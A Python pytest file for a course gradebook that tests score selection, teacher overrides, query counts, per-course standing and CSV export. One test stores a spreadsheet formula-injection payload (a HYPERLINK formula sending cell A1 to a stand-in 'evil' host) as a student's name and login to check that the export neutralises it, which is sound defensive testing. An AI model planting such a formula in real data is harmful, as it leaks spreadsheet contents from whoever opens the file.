"""Scores that count, and their way into a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import event, select, update
from sqlalchemy.orm import Session

from grader.store import (
    claims,
    courses,
    enrolments,
    gradebook,
    overrides,
    requeue,
    submissions,
    tables,
    users,
)
from grader.store.gradebook import Cell
from grader.store.gradebook_csv import csv_lines
from grader.store.matrix import matrix
from grader.store.tables import Override

from .world import World, a_report


def cell(world: World, user: int, column: int = 0) -> Cell:
    """A student's cell in the gradebook, which is the same when it is asked for alone."""
    with world.store.read() as session:
        book = gradebook.gradebook(session, world.course)
        alone = gradebook.cell(session, user, book.assignments[column].id)
    found = next(row for row in book.rows if row.user.id == user).cells[column]
    assert alone == found, "a cell that is asked for alone is another"
    return found


def test_the_best_graded_score_counts(world: World) -> None:
    """The earliest of equals; the last submission's time is the last's."""
    world.grade(world.ada, 4.0)
    best = world.grade(world.ada, 8.0)
    world.grade(world.ada, 8.0)
    last = world.grade(world.ada, 2.0)
    found = cell(world, world.ada)
    assert (found.score, found.max_score, found.attempts, found.best_submission) == (8.0, 10.0, 4, best)
    assert not found.passed and not found.pending
    with world.store.read() as session:
        row = submissions.get(session, last)
    assert row is not None and found.last_submitted == row.created_at


def test_only_graded_submissions_cost_an_attempt(world: World) -> None:
    """What waits is pending; what we could not grade counts for nothing."""
    assert cell(world, world.ada) == gradebook.EMPTY_CELL
    mine = world.hand_in(world.ada)
    found = cell(world, world.ada)
    assert (found.score, found.attempts, found.best_submission, found.pending) == (None, 0, None, True)
    with world.store.write() as session:
        claims.claim(session, "me", 60)
        assert requeue.give_back(session, mine, "me", "broken", False) == "failed"
    found = cell(world, world.ada)
    assert (found.score, found.attempts, found.pending) == (None, 0, False)


def test_the_newest_override_holds(world: World) -> None:
    """Above or below what was graded, even without a submission; None withdraws it."""
    world.grade(world.ada, 8.0)

    def override(user: int, score: float | None) -> None:
        with world.store.write() as session:
            overrides.set_total(
                session,
                assignment_id=world.first,
                user_id=user,
                score=score,
                reason=f"because {score}",
                by=world.teacher,
            )

    override(world.ada, 10.0)
    override(world.ada, 3.0)
    override(world.bob, 5.0)
    found = cell(world, world.ada)
    assert (found.score, found.graded_score, found.override) == (3.0, 8.0, 3.0)
    assert found.override_reason == "because 3.0"
    assert cell(world, world.bob).score == 5.0
    override(world.ada, None)
    found = cell(world, world.ada)
    assert (found.score, found.override) == (8.0, None)
    with world.store.read() as session:
        kept = session.scalars(
            select(Override.score).where(Override.user_id == world.ada).order_by(Override.id)
        )
        assert kept.all() == [10.0, 3.0, None], "earlier ones stay on record"


def test_the_gradebook_shows_students_by_name_and_assignments_in_order(world: World) -> None:
    """Teachers are not graded. A student's own row is the same row."""
    world.grade(world.bob, 10.0, world.second)
    world.grade(world.teacher, 1.0)
    with world.store.read() as session:
        book = gradebook.gradebook(session, world.course)
        assert [row.user.login for row in book.rows] == ["ada", "bob", "cyd"]
        assert [a.exercise for a in book.assignments] == ["control-flow", "backward-twice"]
        assert book.rows[1].total == 10.0 and book.rows[1].cells[1].passed


def test_the_number_of_queries_does_not_grow(world: World) -> None:
    """Four, with three students or with thirty, with one submission or with many."""

    def queries(session: Session) -> int:
        seen: list[str] = []
        connection = session.connection()
        event.listen(connection, "before_cursor_execute", lambda *a: seen.append(a[2]))
        gradebook.gradebook(session, world.course)
        return len(seen)

    with world.store.read() as session:
        few = queries(session)
    with world.store.write() as session:
        for n in range(27):
            user = users.add_user(session, f"s{n}", f"S {n}")
            enrolments.enrol(session, user.id, world.course.id)
    world.grade(world.ada, 3.0)
    with world.store.read() as session:
        assert queries(session) == few == 4


def test_one_user_stands_in_each_course_as_the_gradebook_says(world: World) -> None:
    """Several courses at once, each with its own assignments in order; nobody else's scores."""
    world.grade(world.ada, 8.0, world.second)
    world.grade(world.bob, 9.0, world.first)
    with world.store.write() as session:
        other = courses.add_course(session, "other", "Other")
        third = courses.assign(session, other.id, "control-flow")
    with world.store.read() as session:
        ada = users.get_user(session, world.ada)
        assert ada is not None
        row = gradebook.gradebook(session, world.course).rows[0]
        found = gradebook.standing(session, ada, [world.course.id, other.id])
        assert gradebook.standing(session, ada, []) == {}
    assert [assignment.id for assignment, _cell in found[world.course.id]] == [world.first, world.second]
    assert tuple(cell for _assignment, cell in found[world.course.id]) == row.cells
    assert [cell.score for cell in row.cells] == [None, 8.0]
    assert found[other.id] == [(found[other.id][0][0], gradebook.EMPTY_CELL)]
    assert found[other.id][0][0].id == third.id


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", " =", "\n@", "＝"])
def test_cant_put_a_formula_into_the_teachers_spreadsheet(world: World, start: str) -> None:
    """Neither by one's name nor by one's login."""
    evil = f'{start}HYPERLINK("http://evil/?"&A1,"x")'
    with world.store.write() as session:
        user = users.add_user(session, "x", "x")
        # As an import from elsewhere might store them, without this room's trimming.
        user.name, user.login = evil, evil
        enrolments.enrol(session, user.id, world.course.id)
    with world.store.read() as session:
        text = "".join(csv_lines(matrix(session, world.course)))
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert cells.count("'" + evil) == 2
    assert not any(cell.lstrip()[:1] in set("=+-@＝") for cell in cells if cell)


def test_the_csv_holds_every_score_as_a_number(world: World) -> None:
    """An empty cell where there is none, a negative number as itself."""
    world.grade(world.ada, 6.5)
    world.grade(world.ada, 10.0, world.second)
    world.grade(world.bob, 0.0)
    with world.store.write() as session:
        session.execute(update(tables.User).where(tables.User.id == world.bob).values(name='B, "o"'))
    with world.store.read() as session:
        text = "".join(csv_lines(matrix(session, world.course)))
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["login", "name", "control-flow", "backward-twice", "total"],
        ["ada", "Ada", "6.5", "10", "16.5"],
        ["bob", 'B, "o"', "0", "", "0"],
        ["cyd", "Cyd", "", "", "0"],
    ]


def test_a_report_survives_the_way_through_the_database(world: World) -> None:
    """Both languages, control characters and all."""
    mine = world.grade(world.ada, 6.0, code="author:halved")
    with world.store.read() as session:
        row = submissions.get(session, mine)
    assert row is not None
    assert submissions.report_of(row) == a_report(6.0, code="author:halved")
